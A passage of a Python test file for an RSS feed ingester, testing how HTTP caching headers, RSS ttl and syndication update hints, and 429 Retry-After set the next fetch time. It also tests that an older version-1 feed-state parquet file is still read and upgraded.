    rows = ds.dataset(str(files[-1]), format="parquet").to_table().to_pylist()
    return {row["url"]: row for row in rows}


def test_batch_records_each_feeds_refresh_hint_in_feed_state(tmp_path: Path) -> None:
    """Cache-Control, Expires, <ttl>, sy:updatePeriod and a 429's Retry-After each set next_fetch_after; capped at a day."""
    output = tmp_path / "out"
    now = datetime.now(UTC)
    with FeedServer() as server:
        urls = {
            "max_age": server.route(
                "/a.xml", static(rss(entries("hint-a", 2)), headers={"Cache-Control": "max-age=1800"})
            ),
            "expires": server.route(
                "/b.xml",
                static(
                    rss(entries("hint-b", 2)),
                    headers={"Expires": http_date(now.timestamp() + 7200), "Date": http_date(now)},
                ),
            ),
            "ttl": server.route("/c.xml", static(with_channel(rss(entries("hint-c", 2)), "<ttl>90</ttl>"))),
            "sy": server.route(
                "/d.xml",
                static(
                    with_channel(
                        rss(entries("hint-d", 2)),
                        "<sy:updatePeriod>daily</sy:updatePeriod><sy:updateFrequency>4</sy:updateFrequency>",
                    )
                ),
            ),
            "huge": server.route(
                "/e.xml", static(rss(entries("hint-e", 2)), headers={"Cache-Control": "max-age=99999999"})
            ),
            "limited": server.route("/f.xml", Response(429, {"Retry-After": "3600"}, b"slow down")),
            "garbage": server.route(
                "/g.xml",
                static(
                    with_channel(rss(entries("hint-g", 2)), "<ttl>-5</ttl>"), headers={"Cache-Control": "max-age=soon"}
                ),
            ),
            "none": server.route("/h.xml", static(rss(entries("hint-h", 2)))),
        }
        run = ingest(list(urls.values()), output, "hints", *FAST, server=server)
    assert run.code == 0, run.err
    state = latest_state(output)
    expected = {
        "max_age": (1800, "Cache-Control: max-age=1800"),
        "expires": (7200, "Expires: "),
        "ttl": (5400, "<ttl>90</ttl>"),
        "sy": (21600, "sy:updatePeriod=daily sy:updateFrequency=4"),
        "huge": (86400, "Cache-Control: max-age=99999999"),
        "limited": (3600, "Retry-After: 3600 (HTTP 429)"),
    }
    for key, (seconds, source) in expected.items():
        row = state[urls[key]]
        waited = (row["next_fetch_after"] - row["last_attempt_at"]).total_seconds()
        assert abs(waited - seconds) <= 2, (key, waited)
        assert row["refresh_hint"].startswith(source), (key, row["refresh_hint"])
    for key in ("garbage", "none"):
        assert state[urls[key]]["next_fetch_after"] is None and state[urls[key]]["refresh_hint"] is None, key
    # A hint is not a failure: the hinted feeds are healthy, and only the 429 is dead-lettered.
    assert {d["source"] for d in run.dead} == {urls["limited"]}
    assert_reconciles(run)


def test_feed_state_of_schema_version_1_still_reads(tmp_path: Path) -> None:
    """A feed_state file written before the refresh-hint columns existed is read (hint null), then rewritten as v2."""
    output = tmp_path / "out"
    with FeedServer() as server:
        url = server.route("/v1.xml", static(rss(entries("v1", 2)), etag='"v1"'))
        state_dir = output / "feed_state"
        state_dir.mkdir(parents=True)
        old = pa.table(
            {
                "url": [url],
                "kind": ["feed"],
                "etag": ['"v1"'],
                "last_modified": pa.array([None], pa.string()),
                "last_status": pa.array([200], pa.int32()),
                "consecutive_failures": pa.array([0], pa.int32()),
                "last_attempt_at": pa.array([datetime(2024, 1, 1, tzinfo=UTC)], pa.timestamp("us", tz="UTC")),
                "last_success_at": pa.array([datetime(2024, 1, 1, tzinfo=UTC)], pa.timestamp("us", tz="UTC")),
                "run_id": ["old"],
            },
            metadata={b"newsbeam.schema_version": b"1"},
        )
        pq.write_table(old, state_dir / "state-20240101T000000000000Z-old.parquet")
        run = ingest([url], output, "after-v1", *FAST, server=server)
        assert run.code == 0, run.err
        assert [r.headers.get("if-none-match") for r in run.requests_for("/v1.xml")] == [
            '"v1"'
        ]  # the old state was used
    files = sorted(state_dir.glob("state-*.parquet"))
    newest = pq.read_table(files[-1])
    assert {"next_fetch_after", "refresh_hint"} <= set(newest.column_names)
    assert newest.schema.metadata[b"newsbeam.schema_version"] == b"2"
